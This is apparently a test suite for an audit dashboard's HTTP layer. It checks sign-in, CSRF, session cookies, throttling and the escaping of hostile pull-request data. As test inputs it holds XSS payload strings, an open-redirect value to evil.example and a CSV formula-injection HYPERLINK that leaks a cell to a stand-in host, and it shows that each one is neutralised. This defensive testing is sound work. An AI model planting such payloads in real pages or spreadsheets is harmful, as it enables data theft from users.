/**
 * The dashboard over real HTTP, without a browser: access control (no session → sign-in, wrong
 * token → 401, CSRF → 403, cookie flags, sign-out, expiry, throttling), then the read-only pages,
 * the CSV download and the escaping of hostile PR data in the served HTML.
 */
import { BYPASS_MERGE, CAPTURE_MERGE, HOSTILE, SEED_NOW, sha } from "./support/seed-audit.js";
import { startDashboardServer, TEST_TOKEN, type DashboardServer } from "./support/dashboard-server.js";
import { cookieValue, hiddenField, request, signIn } from "./support/http.js";
import { tooLargeMessage } from "../../src/http/request-body.js";
import { listMerges } from "../support/list-merges.js";
import { parseTrustedProxies, type TrustedProxies } from "../../src/http/client-address.js";

function trusted(text: string): TrustedProxies {
  const parsed = parseTrustedProxies(text);
  if (!parsed.ok) throw new Error(parsed.problems.join("; "));
  return parsed.proxies;
}

describe("access", () => {
  let server: DashboardServer;
  beforeAll(async () => {
    server = await startDashboardServer();
  });
  afterAll(async () => {
    await server.close();
  });

  test.each([
    "/countersign/",
    "/countersign",
    "/countersign/merges?path=src%2Fpayments%2F**",
    "/countersign/merges.csv",
    "/countersign/incidents",
    `/countersign/merges/${CAPTURE_MERGE.repo}/${CAPTURE_MERGE.prNumber}`,
    "/countersign/chain?verify=1",
    `/countersign/commit?sha=${sha("x").slice(0, 7)}`,
    "/countersign/nope",
  ])("no session: GET %s redirects to sign-in and shows no data", async (path) => {
    const res = await request(server, path);
    expect(res.status).toBe(303);
    expect(res.location).toBe(`/countersign/login?next=${encodeURIComponent(path)}`);
    expect(res.text).toBe("");
  });

  test("the JSON API and other paths are not the dashboard's (the handler returns false)", async () => {
    for (const path of ["/countersign/api/merges", "/countersign/api", "/healthz", "/countersignx", "/"]) {
      const res = await request(server, path);
      expect(res.status).toBe(404);
      expect(res.text).toBe('{"message":"Not found"}');
    }
  });

  test(
    "the sign-in form: labelled token field, CSRF token, a nonce cookie that is HttpOnly, SameSite=Strict, " + "not Secure over plain HTTP",
    async () => {
      const res = await request(server, "/countersign/login?next=%2Fcountersign%2Fchain");
      expect(res.status).toBe(200);
      expect(res.text).toContain('<label for="token">');
      expect(res.text).toContain('id="token" name="token" type="password"');
      expect(hiddenField(res.text, "csrf")).toMatch(/^[A-Za-z0-9_-]{43}$/);
      expect(hiddenField(res.text, "next")).toBe("/countersign/chain");
      expect(res.cookies).toHaveLength(1);
      expect(res.cookies[0]).toMatch(/^countersign_login=[A-Za-z0-9_-]{24}; Path=\/countersign; Max-Age=3600; HttpOnly; SameSite=Strict$/);
      expect(res.headers["content-security-policy"]).toMatch(
        /default-src 'none'; style-src 'sha256-[^']+'; img-src 'self' data:; form-action 'self'; frame-ancestors 'none'/,
      );
      expect(res.headers["x-frame-options"]).toBe("DENY");
      expect(res.headers["cache-control"]).toBe("no-store");
    },
  );

  test("a wrong token: 401 with the form again, no session cookie, a log line without the token", async () => {
    const { posted } = await signIn(server, "not-the-token-but-long-enough");
    expect(posted.status).toBe(401);
    expect(posted.text).toContain('role="alert"');
    expect(posted.text).toContain("That token is not the audit token");
    expect(posted.text).toContain('aria-invalid="true"');
    expect(cookieValue(posted.cookies, "countersign_session")).toBeUndefined();
    const line = server.logs.find((l) => l.details.outcome === "bad_token");
    expect(line).toBeDefined();
    expect(JSON.stringify(server.logs)).not.toContain("not-the-token-but-long-enough");
    expect(JSON.stringify(server.logs)).not.toContain(TEST_TOKEN);
  });

  test("CSRF: sign-in without the form's token, or without its cookie, or with another form's token → 403", async () => {
    const form = await request(server, "/countersign/login");
    const nonce = cookieValue(form.cookies, "countersign_login")!;
    const csrf = hiddenField(form.text, "csrf")!;
    const other = await request(server, "/countersign/login");
    const cases: { cookie?: string; form: Record<string, string> }[] = [
      { cookie: `countersign_login=${nonce}`, form: { token: TEST_TOKEN } },
      { form: { token: TEST_TOKEN, csrf } },
      { cookie: `countersign_login=${cookieValue(other.cookies, "countersign_login")}`, form: { token: TEST_TOKEN, csrf } },
      { cookie: `countersign_login=${nonce}`, form: { token: TEST_TOKEN, csrf: csrf.slice(0, -1) + (csrf.endsWith("A") ? "B" : "A") } },
    ];
    for (const c of cases) {
      const res = await request(server, "/countersign/login", c);
      expect(res.status).toBe(403);
      expect(cookieValue(res.cookies, "countersign_session")).toBeUndefined();
    }
  });

  test(
    "the right token: 303 to where the user was going, a session cookie that is HttpOnly, SameSite=Strict, 8 hours, " +
      "scoped to /countersign",
    async () => {
      const { posted, cookie } = await signIn(server, TEST_TOKEN, { next: "/countersign/merges?ai=agent" });
      expect(posted.status).toBe(303);
      expect(posted.location).toBe("/countersign/merges?ai=agent");
      const session = posted.cookies.find((c) => c.startsWith("countersign_session="))!;
      expect(session).toMatch(
        /^countersign_session=v1\.[\w-]{24}\.\d+\.[\w-]{43}; Path=\/countersign; Max-Age=28800; HttpOnly; SameSite=Strict$/,
      );
      // The sign-in nonce is spent.
      expect(posted.cookies.find((c) => c.startsWith("countersign_login="))).toMatch(/Max-Age=0/);
      const page = await request(server, "/countersign/merges?ai=agent", { cookie });
      expect(page.status).toBe(200);
      expect(page.text).toContain("<h1>Merges</h1>");
    },
  );

  test("Secure cookies when the request came over HTTPS (X-Forwarded-Proto) or when configured", async () => {
    const viaProxy = await signIn(server, TEST_TOKEN, { headers: { "x-forwarded-proto": "https" } });
    expect(viaProxy.form.cookies[0]).toMatch(/; Secure$/);
    expect(viaProxy.posted.cookies.find((c) => c.startsWith("countersign_session="))).toMatch(/; HttpOnly; SameSite=Strict; Secure$/);
    const configured = await startDashboardServer({ seed: false, handler: { secureCookies: true } });
    try {
      const { posted } = await signIn(configured);
      expect(posted.cookies.find((c) => c.startsWith("countersign_session="))).toMatch(/; Secure$/);
    } finally {
      await configured.close();
    }
  });

  test("an open redirect through next= is refused", async () => {
    const { posted } = await signIn(server, TEST_TOKEN, { next: "//evil.example/countersign/" });
    expect(posted.location).toBe("/countersign/");
  });

  test("a forged or tampered session cookie is no session: redirect, and the bad cookie is cleared", async () => {
    const { cookie } = await signIn(server);
    const tampered = cookie.replace(/\.(\d+)\./, (_, exp: string) => `.${Number(exp) + 1}.`);
    const res = await request(server, "/countersign/", { cookie: tampered });
    expect(res.status).toBe(303);
    expect(res.location).toBe("/countersign/login?next=%2Fcountersign%2F&expired=1");
    expect(res.cookies[0]).toMatch(/^countersign_session=; Path=\/countersign; Max-Age=0/);
  });

  test("sign-out needs the CSRF token (403 without it), then ends the session for good", async () => {
    const { cookie } = await signIn(server);
    const page = await request(server, "/countersign/", { cookie });
    const csrf = hiddenField(page.text, "csrf")!;
    expect((await request(server, "/countersign/logout", { cookie, form: {} })).status).toBe(403);
    expect((await request(server, "/countersign/logout", { cookie, form: { csrf: "x".repeat(43) } })).status).toBe(403);
    expect((await request(server, "/countersign/", { cookie })).status).toBe(200);
    const out = await request(server, "/countersign/logout", { cookie, form: { csrf } });
    expect(out.status).toBe(303);
    expect(out.location).toBe("/countersign/login?signed_out=1");
    expect(out.cookies[0]).toMatch(/^countersign_session=; Path=\/countersign; Max-Age=0; HttpOnly; SameSite=Strict/);
    // The old cookie, replayed, is refused.
    expect((await request(server, "/countersign/", { cookie })).status).toBe(303);
  });

  test("GET is read-only: other methods are refused; sign-in and sign-out accept only forms", async () => {
    const { cookie } = await signIn(server);
    for (const [method, path] of [
      ["POST", "/countersign/merges"],
      ["PUT", "/countersign/"],
      ["DELETE", "/countersign/chain"],
      ["GET", "/countersign/logout"],
    ] as const) {
      const res = await request(server, path, { method, cookie, ...(method === "POST" ? { form: {} } : {}) });
      expect(res.status).toBe(405);
    }
    expect(
      (await request(server, "/countersign/login", { body: '{"token":"x"}', headers: { "content-type": "application/json" } })).status,
    ).toBe(415);
    const form = { "content-type": "application/x-www-form-urlencoded" };
    const big = await request(server, "/countersign/login", { body: "token=" + "a".repeat(9000), headers: form });
    expect(big).toMatchObject({ status: 413, text: `Form too large: ${tooLargeMessage(8 * 1024)}.` });
    expect(big.headers.connection).toBe("close");
  });
});

describe("sessions expire", () => {
  test("after 8 hours the cookie no longer opens a page", async () => {
    let now = SEED_NOW;
    const server = await startDashboardServer({ seed: false, handler: { now: () => now } });
    try {
      const { cookie } = await signIn(server);
      now = new Date(SEED_NOW.getTime() + 8 * 3_600_000 - 1000);
      expect((await request(server, "/countersign/merges", { cookie })).status).toBe(200);
      now = new Date(SEED_NOW.getTime() + 8 * 3_600_000);
      const res = await request(server, "/countersign/merges", { cookie });
      expect(res.status).toBe(303);
      expect(res.location).toContain("expired=1");
    } finally {
      await server.close();
    }
  });
});

describe("wrong tokens are throttled", () => {
  test("after 10 failures from one address, the 11th attempt gets 429 even with the right token", async () => {
    const server = await startDashboardServer({ seed: false });
    try {
      for (let i = 0; i < 10; i++) expect((await signIn(server, `wrong-token-number-${i}`)).posted.status).toBe(401);
      const res = (await signIn(server, TEST_TOKEN)).posted;
      expect(res.status).toBe(429);
      expect(Number(res.headers["retry-after"])).toBeGreaterThan(0);
    } finally {
      await server.close();
    }
  });
});

describe("the throttle behind a reverse proxy (TRUSTED_PROXIES)", () => {
  const proxied = (client: string) => ({ headers: { "x-forwarded-for": client } });
  const failTenTimes = async (server: DashboardServer, headers: { headers: Record<string, string> }) => {
    for (let i = 0; i < 10; i++) expect((await signIn(server, `wrong-token-number-${i}`, headers)).posted.status).toBe(401);
  };

  test("through a trusted proxy, one client's failures throttle that client only, keyed on X-Forwarded-For", async () => {
    const server = await startDashboardServer({ seed: false, handler: { trustedProxies: trusted("127.0.0.1") } });
    try {
      await failTenTimes(server, proxied("203.0.113.5"));
      expect((await signIn(server, TEST_TOKEN, proxied("203.0.113.5"))).posted.status).toBe(429);
      // Another user behind the same proxy still signs in.
      expect((await signIn(server, TEST_TOKEN, proxied("198.51.100.7"))).posted.status).toBe(303);
      // Addresses the client adds in front of the proxy's own entry change nothing.
      expect((await signIn(server, TEST_TOKEN, proxied("10.9.9.9, 203.0.113.5"))).posted.status).toBe(429);
      expect(server.logs).toContainEqual(
        expect.objectContaining({ details: expect.objectContaining({ outcome: "throttled", client: "203.0.113.5" }) }),
      );
    } finally {
      await server.close();
    }
  });

  test("from a peer that is not a trusted proxy, X-Forwarded-For is ignored: rotating it does not escape the throttle", async () => {
    for (const trustedProxies of [undefined, trusted("10.0.0.0/8")]) {
      const server = await startDashboardServer({ seed: false, handler: trustedProxies ? { trustedProxies } : {} });
      try {
        for (let i = 0; i < 10; i++)
          expect((await signIn(server, `wrong-token-number-${i}`, proxied(`198.51.100.${i}`))).posted.status).toBe(401);
        expect((await signIn(server, TEST_TOKEN, proxied("198.51.100.200"))).posted.status).toBe(429);
      } finally {
        await server.close();
      }
    }
  });
});

describe("no token configured", () => {
  test.each([undefined, ""])("token %j: the dashboard is off, every /countersign/ path falls through", async (token) => {
    const server = await startDashboardServer({ seed: false, token });
    try {
      for (const path of ["/countersign/", "/countersign/login", "/countersign/merges"]) {
        const res = await request(server, path);
        expect(res.status).toBe(404);
        expect(res.text).toBe('{"message":"Not found"}');
      }
      expect((await request(server, "/countersign/login", { form: { token: "" } })).status).toBe(404);
    } finally {
      await server.close();
    }
  });
});

describe("pages", () => {
  let server: DashboardServer;
  let cookie: string;
  beforeAll(async () => {
    server = await startDashboardServer();
    cookie = (await signIn(server)).cookie;
  });
  afterAll(async () => {
    await server.close();
  });

  test("the overview lists parked webhook deliveries with their error and the retry command, escaped; none: no section", async () => {
    expect((await request(server, "/countersign/", { cookie })).text).not.toContain("Parked deliveries");
    const inbox = server.store.inbox();
    await inbox.enqueue({ id: "parked-1", event: "pull_request", action: "closed", payload: "{}", receivedAt: new Date(SEED_NOW) });
    await inbox.claim({ owner: "t", now: new Date(SEED_NOW), leaseMs: 1000, limit: 1 });
    await inbox.fail("parked-1", "t", "HTTP 502: <b>Bad Gateway</b> (POST /graphql)", new Date(SEED_NOW), null);
    const res = await request(server, "/countersign/", { cookie });
    expect(res.text).toContain('<h2 id="parked-deliveries">Parked deliveries</h2>');
    expect(res.text).toContain("<code>parked-1</code>");
    expect(res.text).toContain("HTTP 502: &lt;b&gt;Bad Gateway&lt;/b&gt; (POST /graphql)");
    expect(res.text).toContain("countersign inbox retry &lt;delivery-id&gt;");
    await inbox.retry("parked-1", new Date(SEED_NOW));
  });

  test("hostile PR data is served as text: no tag, attribute or javascript: URL from it survives", async () => {
    const pages = [
      await request(server, "/countersign/merges?repo=acme/web", { cookie }),
      await request(server, `/countersign/merges/${HOSTILE.repo}/${HOSTILE.prNumber}`, { cookie }),
    ];
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(page.text).not.toContain("<script>window.__xss");
      expect(page.text).not.toContain("<img src=x");
      expect(page.text).not.toContain("<svg onload");
      expect(page.text).not.toContain("<b onmouseover");
      expect(page.text).not.toMatch(/<iframe/i);
      expect(page.text).not.toMatch(/<script/i);
      expect(page.text).toContain(
        "&lt;script&gt;window.__xss=1&lt;/script&gt;&lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;&quot;&#39;&amp;amp;",
      );
    }
    expect(pages[1]!.text).toContain("src/ui/&lt;b onmouseover=&quot;window.__xss=5&quot;&gt;evil&lt;/b&gt;.tsx");
  });

  test(
    "a merge page answers the review questions: gate, disclosure sources, reviewers with notes and SHAs, exceptions, " + "revert, chain",
    async () => {
      const res = await request(server, `/countersign/merges/${BYPASS_MERGE.repo}/${BYPASS_MERGE.prNumber}`, { cookie });
      expect(res.status).toBe(200);
      const text = res.text.replace(/<[^>]+>/g, " ").replace(/\s+/g, " ");
      expect(text).toContain("bypassed merged while countersign was failure");
      expect(text).toContain("agent devin");
      expect(text).toContain("sponsor @gus");
      expect(text).toContain("Boundaries auth; 1 exception granted");
      expect(text).toMatch(/auth sec-erin Incident INC-77: card declines spiking; time-boxed to 48 hours\./);
      expect(text).toContain(`Reverted by ${BYPASS_MERGE.repo}#${BYPASS_MERGE.revertedBy}`);
      const merge = (await server.store.getMerge(BYPASS_MERGE.repo, BYPASS_MERGE.prNumber))!;
      expect(text).toContain(`seq ${merge.seq}`);
      expect(text).toContain(merge.entryHash);
      expect(res.text).toContain(`href="/countersign/merges/acme/payments-api/${BYPASS_MERGE.revertedBy}"`);

      const capture = (await request(server, `/countersign/merges/${CAPTURE_MERGE.repo}/${CAPTURE_MERGE.prNumber}`, { cookie })).text
        .replace(/<[^>]+>/g, " ")
        .replace(/\s+/g, " ");
      expect(capture).toContain("2 counted of 3 approving reviews: rev-carol, kim");
      expect(capture).toContain("replayed 200 captured failures");
      expect(capture).toContain("≠ merged head");
      expect(capture).toContain("stale: approved an older head");
    },
  );

  test("a merge page lists the incidents linked to it with their current relation; a merge without one says so", async () => {
    const before = (await request(server, `/countersign/merges/${CAPTURE_MERGE.repo}/${CAPTURE_MERGE.prNumber}`, { cookie })).text;
    expect(before).toContain("No incident is linked to this merge.");
    await server.store.recordIncident({
      externalId: "INC-9001",
      title: "Retries <b>stormed</b> the queue",
      url: "https://acme.pagerduty.com/incidents/Q1W2E3",
      severity: 2,
      category: "hallucination-in-production-code",
      startedAt: "2026-11-19T08:00:00Z",
      source: "cli",
    });
    await server.store.linkIncident({
      externalId: "INC-9001",
      repo: CAPTURE_MERGE.repo,
      prNumber: CAPTURE_MERGE.prNumber,
      relation: "suspect",
      note: "touched the retry loop",
      linkedBy: "oncall",
      source: "cli",
    });
    await server.store.linkIncident({
      externalId: "INC-9001",
      repo: CAPTURE_MERGE.repo,
      prNumber: CAPTURE_MERGE.prNumber,
      relation: "caused",
      note: "bisected to this merge",
      linkedBy: "oncall",
      source: "cli",
    });
    const res = await request(server, `/countersign/merges/${CAPTURE_MERGE.repo}/${CAPTURE_MERGE.prNumber}`, { cookie });
    expect(res.status).toBe(200);
    const text = res.text.replace(/<[^>]+>/g, " ").replace(/\s+/g, " ");
    expect(text).toContain(
      "INC-9001 Retries &lt;b&gt;stormed&lt;/b&gt; the queue caused SEV2, " +
        "hallucination-in-production-code 2026-11-19 08:00 bisected to this merge oncall,",
    );
    expect(text).not.toContain("touched the retry loop"); // the superseded link is history, not the current relation
    expect(res.text).toContain('<a href="https://acme.pagerduty.com/incidents/Q1W2E3" rel="noreferrer">INC-9001</a>');
    expect(res.text).not.toContain("<b>stormed");
  });

  test(
    "the incidents page: every incident, newest first, with its merges' current relations; " + "an empty store says how to record one",
    async () => {
      const empty = await startDashboardServer({ seed: false });
      try {
        const { cookie: emptyCookie } = await signIn(empty);
        const none = await request(empty, "/countersign/incidents", { cookie: emptyCookie });
        expect(none.status).toBe(200);
        expect(none.text).toContain("No incident is recorded.");
      } finally {
        await empty.close();
      }
      await server.store.recordIncident({ externalId: "INC-8001", title: "Older", startedAt: "2026-11-01T00:00:00Z", source: "cli" });
      await server.store.recordIncident({
        externalId: "INC-8002",
        title: "Newer",
        severity: 1,
        category: "credential-exposure",
        startedAt: "2026-11-15T00:00:00Z",
        source: "api",
      });
      await server.store.linkIncident({
        externalId: "INC-8002",
        repo: BYPASS_MERGE.repo,
        prNumber: BYPASS_MERGE.prNumber,
        relation: "suspect",
        source: "cli",
      });
      await server.store.linkIncident({
        externalId: "INC-8002",
        repo: BYPASS_MERGE.repo,
        prNumber: BYPASS_MERGE.prNumber,
        relation: "dismissed",
        note: "ruled out",
        source: "cli",
      });
      const res = await request(server, "/countersign/incidents", { cookie });
      expect(res.status).toBe(200);
      expect(res.text).toContain('aria-current="page">Incidents<');
      const text = res.text.replace(/<[^>]+>/g, " ").replace(/\s+/g, " ");
      expect(text.indexOf("INC-8002")).toBeLessThan(text.indexOf("INC-8001"));
      expect(text).toContain(
        `INC-8002 Newer SEV1 credential-exposure 2026-11-15 00:00 ${BYPASS_MERGE.repo}#${BYPASS_MERGE.prNumber} dismissed`,
      );
      expect(text).not.toContain(`${BYPASS_MERGE.prNumber} suspect`); // superseded
      expect(text).toMatch(/INC-8001 Older — not classified 2026-11-01 00:00 none yet/);
    },
  );

  test("unknown merge and malformed merge paths: 404 pages", async () => {
    expect((await request(server, "/countersign/merges/acme/web/99999", { cookie })).status).toBe(404);
    expect((await request(server, "/countersign/merges/acme/web/0", { cookie })).status).toBe(404);
    expect((await request(server, "/countersign/merges/acme/web/1/extra", { cookie })).status).toBe(404);
    expect((await request(server, "/countersign/merges/%E0%A4%A/web/1", { cookie })).status).toBe(404);
  });

  test("a bad filter is refused with the field and the fix (400), not passed to the store", async () => {
    const res = await request(server, "/countersign/merges?repo=nope&since=yesterday&cursor=m1.bogus", { cookie });
    expect(res.status).toBe(400);
    expect(res.text).toContain("The filter was not applied.");
    expect(res.text).toContain("Repository: expected owner/name, for example acme/payments-api");
    expect(res.text).toContain(
      'id="f-since" name="since" value="yesterday" type="date" aria-describedby="f-since-hint f-since-error" aria-invalid="true"',
    );
    const cursor = await request(server, "/countersign/merges?cursor=m1.bogus", { cookie });
    expect(cursor.status).toBe(400);
    expect(cursor.text).toContain("is not a cursor this server issued");
  });

  test("cursor paging walks every merge once, 50 at a time", async () => {
    const seen: string[] = [];
    let path: string | null = "/countersign/merges";
    let pages = 0;
    while (path) {
      const res = await request(server, path, { cookie });
      expect(res.status).toBe(200);
      seen.push(...[...res.text.matchAll(/<th scope="row"><a href="\/countersign\/merges\/([^"]+)"/g)].map((m) => m[1]!));
      path = /<a href="([^"]+)" rel="next">/.exec(res.text)?.[1]?.replace(/&amp;/g, "&") ?? null;
      pages += 1;
    }
    const total = (await listMerges(server.store, { limit: 1000 })).length;
    expect(seen).toHaveLength(total);
    expect(new Set(seen).size).toBe(total);
    expect(pages).toBe(Math.ceil(total / 50));
  });

  test("CSV: RFC 4180 with CRLF, every matching merge, spreadsheet formulas neutralised", async () => {
    const res = await request(server, "/countersign/merges.csv?repo=acme/web", { cookie });
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8; header=present");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="countersign-merges-2026-11-20.csv"');
    const lines = res.text.split("\r\n");
    expect(lines[0]).toBe("merged_at,repo,pr,ai,tools,team,reviewers,check,bypassed,exceptions,reverted_by,merge_sha,title");
    expect(lines.at(-1)).toBe("");
    expect(res.text.replace(/\r\n/g, "")).not.toContain("\n");
    const expected = (await listMerges(server.store, { repo: "acme/web", limit: 1000 })).length;
    expect(lines.length - 2).toBe(expected);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(res.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  test("the commit lookup redirects to the merge that contains the commit", async () => {
    const res = await request(server, `/countersign/commit?sha=${sha(`${CAPTURE_MERGE.repo}#${CAPTURE_MERGE.prNumber} c1`).slice(0, 9)}`, {
      cookie,
    });
    expect(res.status).toBe(303);
    expect(res.location).toBe(`/countersign/merges/acme/payments-api/${CAPTURE_MERGE.prNumber}`);
    expect((await request(server, "/countersign/commit?sha=0000000", { cookie })).status).toBe(404);
    expect((await request(server, "/countersign/commit?sha=zz", { cookie })).status).toBe(400);
  });

  test("the overview's figures come from the store's report", async () => {
    const res = await request(server, "/countersign/", { cookie });
    expect(res.status).toBe(200);
    const report = await server.store.report({ since: "2026-05-25", until: "2026-11-20" }, ["ai"]);
    expect(res.text).toContain(`${report.total.aiAssisted} of ${report.total.merges} merges since 2026-05-25`);
    expect(res.text).toContain(`<span class="value">${report.total.bypassed}</span>`);
    // The revert card names its count and base, as the revert-rate charts label each bar.
    expect(res.text).toContain(`reverted within 30 days (${report.total.revertedWithin30d} of ${report.total.revertBase})`);
    for (const id of ["chart-ai-share", "chart-bypasses", "chart-revert-ai", "chart-revert-team"]) {
      expect(res.text).toContain(`<figure class="chart" id="${id}">`);
      expect(res.text).toContain(`aria-labelledby="${id}-t ${id}-d"`);
    }
    const scoped = await request(server, "/countersign/?team=%40acme%2Fsre", { cookie });
    const sre = await server.store.report({ since: "2026-05-25", until: "2026-11-20", team: "@acme/sre" }, []);
    expect(scoped.text).toContain(`${sre.total.aiAssisted} of ${sre.total.merges} merges since 2026-05-25`);
    expect((await request(server, "/countersign/?repo=bad", { cookie })).status).toBe(400);
  });

  test("the chain page verifies the trail and refuses a malformed checkpoint", async () => {
    const head = (await server.store.head())!;
    const ok = await request(server, `/countersign/chain?verify=1&checkpoint=${head.seq}:${head.entryHash}`, { cookie });
    expect(ok.status).toBe(200);
    expect(ok.text).toContain("intact");
    expect(ok.text).toContain(`All ${head.seq} entries link up`);
    const bad = await request(server, "/countersign/chain?verify=1&checkpoint=nothex", { cookie });
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('aria-invalid="true"');
  });
});
